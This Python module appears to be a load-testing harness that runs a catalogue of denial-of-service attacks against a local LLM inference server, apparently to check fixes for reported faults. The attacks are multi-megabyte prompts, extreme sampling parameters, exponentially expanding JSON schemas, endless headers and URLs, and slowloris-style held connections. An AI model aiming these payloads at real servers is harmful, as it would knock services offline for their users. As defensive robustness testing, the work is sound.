"""The attacks of benchmarks.hostile: one attacker, in its own process, that repeats an attempt until the time is up.

An attack prepares its bytes before the measurement starts, so that the attacker needs little of the CPU that it shares
with the server. It connects from 127.0.0.2, except where its description says that it has the address of the others.
Attempts follow each other after 10 ms. The numbers of connections are those of the scripts that found the faults.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import random
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from types import MappingProxyType
from typing import Any

from benchmarks.hostile_clients import Target, wait_for_start

PAUSE_S = 0.01
BODY_BYTES = 4_100_000  # the server accepts bodies of up to 4 MiB
STREAM_BYTES = 800_000_000  # of endless headers or an endless URL, on one connection
LATE_S = 1.0
NONCE = b"@@nonce@"
OTHER_ADDRESS, SAME_ADDRESS = "127.0.0.2", "127.0.0.1"

Attempt = Callable[[], Awaitable[str]]
"""Makes one attempt. Returns the status of the answer, or how the connection ended."""


@dataclass(frozen=True)
class Attack:
    """One way to attack the server."""

    item: int
    """Number of the attack in issue 19."""
    what: str
    prepare: Callable[[Target, str], Attempt]
    """Prepares the attempts for a server. The second argument is the attacker's own address."""
    connections: int = 1
    """Number of concurrent attempts."""
    timeout_s: float = 10.0
    """Time after which the attacker abandons an attempt and starts the next one."""
    with_key: bool = True
    address: str = OTHER_ADDRESS
    open_files: int = 0
    """RLIMIT_NOFILE of the server, or 0 to keep the default."""


Body = Callable[[str], bytes]
"""Takes the name of the model. Returns the body of a request."""


def posts(path: str, bodies: Sequence[Body]) -> Callable[[Target, str], Attempt]:
    """Post the bodies in turn. Each request has a new nonce, so that cached answers do not help the server."""

    def prepare(target: Target, address: str) -> Attempt:
        requests = itertools.cycle([target.request(path, body(target.model)) for body in bodies])
        numbers = itertools.count()

        async def attempt() -> str:
            data = next(requests).replace(NONCE, b"%08d" % next(numbers))
            reader, writer = await _connect(target, address)
            try:
                writer.write(data)
                status = await _status(reader)
                while await reader.read(1 << 20):
                    pass
                return status
            finally:
                writer.transport.abort()

        return attempt

    return prepare


def endless(head: bytes, block: bytes) -> Callable[[Target, str], Attempt]:
    """Send a head and then the same block until the server answers, closes, or has taken 800 MB."""

    def prepare(target: Target, address: str) -> Attempt:
        async def attempt() -> str:
            reader, writer = await _connect(target, address)
            answer = asyncio.create_task(_status(reader))
            try:
                writer.write(head)
                for _ in range(STREAM_BYTES // len(block)):
                    if answer.done():
                        break
                    writer.write(block)
                    await writer.drain()
                return await answer
            except OSError:
                return await answer  # the answer that arrived before the connection was closed
            finally:
                answer.cancel()
                writer.transport.abort()

        return attempt

    return prepare


def held(head: bytes, every_s: float) -> Callable[[Target, str], Attempt]:
    """Send an incomplete head, then single bytes from time to time, until the server answers or closes."""

    def prepare(target: Target, address: str) -> Attempt:
        async def attempt() -> str:
            reader, writer = await _connect(target, address)
            try:
                writer.write(head)
                answer = asyncio.create_task(_status(reader))
                while not (await asyncio.wait([answer], timeout=every_s))[0]:
                    writer.write(b"a")
                return answer.result()
            finally:
                writer.transport.abort()

        return attempt

    return prepare


async def _connect(target: Target, address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(target.host, target.port, local_addr=(address, 0))


async def _status(reader: asyncio.StreamReader) -> str:
    try:
        words = (await reader.readline()).split()
    except ConnectionError:
        return "reset"
    return words[1].decode() if len(words) > 1 else "closed"


# ---- bodies ----------------------------------------------------------------------------------------------------------


def sampling(**params: object) -> Body:
    """A short completion with these sampling parameters."""
    words = " ".join(f"{number} word{number}" for number in range(20))  # many tokens: some of their logits are above 0
    fields = {"prompt": words, "max_tokens": 8, **params}
    return lambda model: json.dumps({"model": model, **fields}).encode()


def text(piece: str, num_bytes: int = BODY_BYTES, *, form: str = "prompt") -> Body:
    """A long text, as the prompt of a completion or as a message."""

    def body(model: str) -> bytes:
        repeated = piece * (num_bytes // len(piece.encode()))
        value: Any = repeated if form == "prompt" else [{"role": "user", "content": repeated}]
        return json.dumps({"model": model, form: value}, ensure_ascii=False).encode()

    return body


def schema(value: Mapping[str, object]) -> Body:
    """A chat whose answer must follow this schema."""
    named = {"name": "x", "schema": {"title": NONCE.decode(), **value}}
    fields: dict[str, object] = {"messages": [{"role": "user", "content": "x"}], "max_tokens": 4}
    fields["response_format"] = {"type": "json_schema", "json_schema": named}
    return lambda model: json.dumps({"model": model, **fields}).encode()


def many(before: str, item: Callable[[int], str], after: str) -> Body:
    """JSON with one item after the other, up to the size of a body. `before` may hold MODEL."""

    def items() -> Iterator[str]:
        left = BODY_BYTES
        for number in itertools.count():
            written = item(number)
            left -= len(written) + 1
            if left < 0:
                return
            yield written

    return lambda model: (before.replace("MODEL", json.dumps(model)) + ",".join(items()) + after).encode()


def _all_of(count: int) -> dict[str, object]:
    return {"allOf": [{"type": "string", "pattern": f"^(.*a.{{{i}}}b.*)$"} for i in range(1, count + 1)]}


def _references(depth: int) -> dict[str, object]:
    twice = {f"d{i}": {"allOf": [{"$ref": f"#/$defs/d{i + 1}"}] * 2} for i in range(depth)}
    return {"$defs": {**twice, f"d{depth}": {"type": "object"}}, "$ref": "#/$defs/d0"}


def _product(count: int) -> dict[str, object]:
    either = [[{"properties": {f"k{i}_{j}": {"type": "string"}}} for j in range(4)] for i in range(count)]
    return {"type": "object", "allOf": [{"anyOf": each} for each in either]}


def _properties(count: int) -> dict[str, object]:
    letters = random.Random(1)
    names = ["".join(letters.choices("abcdefghij klmnop", k=30)) for _ in range(count)]
    return {"type": "object", "properties": {name: {"type": "string"} for name in names}}


COMPLETIONS, CHAT, TOKENIZE = "/v1/completions", "/v1/chat/completions", "/tokenize"
TEXTS = ("1", " ", "a", "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "<|im_end|>", "hello world ")
PENALTIES = ({"top_p": 0.5}, {"top_p": 0.5, "top_k": 5}, {"min_p": 0.5}, {"top_p": 0.5, "temperature": 0}, {"n": 4})
EXTREMES: tuple[dict[str, object], ...] = (
    {"temperature": 5e-324, "top_p": 0.9, "presence_penalty": 2},
    {"top_p": 5e-324, "top_k": 3},
    {"temperature": 100, "top_k": 2147483647},
    {"repetition_penalty": 1000, "presence_penalty": -2, "frequency_penalty": -2},
    {"max_tokens": 30, "frequency_penalty": -2, "repetition_penalty": 1e-9},
    {"repetition_penalty": 1e-300, "logprobs": 20},
    {"repetition_penalty": 1e-45, "response_format": {"type": "json_object"}},
    {"min_p": 1.0, "seed": -(1 << 63), "stop": ["\ufffd"]},
)
CHAT_OPEN = '{"model":MODEL,"messages":[{"role":"user","content":'
HEADERS = b"".join(b"x%d: " % number + b"a" * 8000 + b"\r\n" for number in range(64))
GET = b"GET /health HTTP/1.1\r\nHost: x\r\n"

ATTACKS: Mapping[str, Attack] = MappingProxyType(
    {
        "penalty": Attack(
            1,
            "repetition_penalty 1e-45 with other parameters",
            posts(COMPLETIONS, [sampling(repetition_penalty=1e-45, **each) for each in PENALTIES]),
        ),
        "sampling": Attack(
            1, "other extreme sampling parameters", posts(COMPLETIONS, [sampling(**each) for each in EXTREMES])
        ),
        "completions": Attack(2, "texts of 4 MB", posts(COMPLETIONS, [text(each) for each in TEXTS])),
        "chat": Attack(2, "messages of 4 MB", posts(CHAT, [text(each, form="messages") for each in TEXTS])),
        "tokenize": Attack(2, "texts of 4 MB to /tokenize", posts(TOKENIZE, [text(each) for each in TEXTS]), 3),
        "medium texts": Attack(
            2, "texts of 30 to 500 kB", posts(TOKENIZE, [text(t, n) for t in TEXTS for n in (30_000, 500_000)]), 3
        ),
        "patterns": Attack(3, "allOf of 30 patterns, 1.7 kB", posts(CHAT, [schema(_all_of(30))]), 7, 3.0),
        "products": Attack(
            3,
            "references and choices that multiply",
            posts(CHAT, [schema(_references(24)), schema(_product(12))]),
            7,
            3.0,
        ),
        "properties": Attack(3, "a schema of 5,000 properties", posts(CHAT, [schema(_properties(5000))]), 8),
        "headers": Attack(4, "headers without end", endless(GET, HEADERS), with_key=False),
        "header value": Attack(4, "one header without end", endless(GET + b"X: ", b"a" * 65536), with_key=False),
        "url": Attack(4, "a URL without end", endless(b"GET /", b"a" * 65536), with_key=False),
        "slow headers": Attack(4, "a byte every 0.2 s", held(GET + b"X: ", 0.2), 200, 60.0, with_key=False),
        "half-open": Attack(
            4, "300 connections, RLIMIT_NOFILE 256", held(GET + b"X: ", 5.0), 300, 60.0, with_key=False, open_files=256
        ),
        "half-open, same address": Attack(
            4, "the same, with the address of the others", held(GET + b"X: ", 5.0), 300, 60.0, False, SAME_ADDRESS, 256
        ),
        "numbers": Attack(
            5, "prompt: [-1, -1, ..]", posts(COMPLETIONS, [many('{"model":MODEL,"prompt":[', lambda _: "-1", "]}")])
        ),
        "objects": Attack(
            5, "prompt: [{}, {}, ..]", posts(COMPLETIONS, [many('{"model":MODEL,"prompt":[', lambda _: "{}", "]}")])
        ),
        "lists": Attack(
            5,
            "prompt: [[-1], [-1], ..]",
            posts(COMPLETIONS, [many('{"model":MODEL,"prompt":[', lambda _: "[-1]", "]}")]),
        ),
        "parts": Attack(5, "content: [{}, {}, ..]", posts(CHAT, [many(CHAT_OPEN + "[", lambda _: "{}", "]}]}")])),
        "messages": Attack(
            5, "messages: [{}, {}, ..]", posts(CHAT, [many('{"model":MODEL,"messages":[', lambda _: "{}", "]}")])
        ),
        "fields": Attack(5, "unknown fields", posts(CHAT, [many(CHAT_OPEN + '"x"}],', lambda i: f'"{i}":0', "}")])),
        "metadata": Attack(
            5, "metadata", posts(CHAT, [many(CHAT_OPEN + '"x"}],"metadata":{', lambda i: f'"{i}":0', "}}")])
        ),
    }
)


async def run(attack: Attack, target: Target, seconds: float) -> Counter[str]:
    """Attack until the time is up; count the outcomes."""
    attempt, outcomes = attack.prepare(target, attack.address), Counter[str]()
    await wait_for_start()
    end = time.monotonic() + seconds

    async def repeat() -> None:
        while (left := end - time.monotonic()) > 0:
            try:
                async with asyncio.timeout(min(left, attack.timeout_s)):
                    outcome = await attempt()
            except TimeoutError:
                outcome = "given up"
            except OSError as error:
                outcome = type(error).__name__
            outcomes[outcome] += 1
            await asyncio.sleep(PAUSE_S)

    async with asyncio.timeout(seconds + LATE_S), asyncio.TaskGroup() as group:
        for _ in range(attack.connections):
            group.create_task(repeat())
    return outcomes


def main() -> None:
    """Run the attack that the argument describes: a JSON object."""
    options = json.loads(sys.argv[1])
    attack = ATTACKS[options["attack"]]
    outcomes = asyncio.run(run(attack, Target(**options["target"]), float(options["seconds"])))
    print(json.dumps(outcomes), flush=True)


if __name__ == "__main__":
    main()
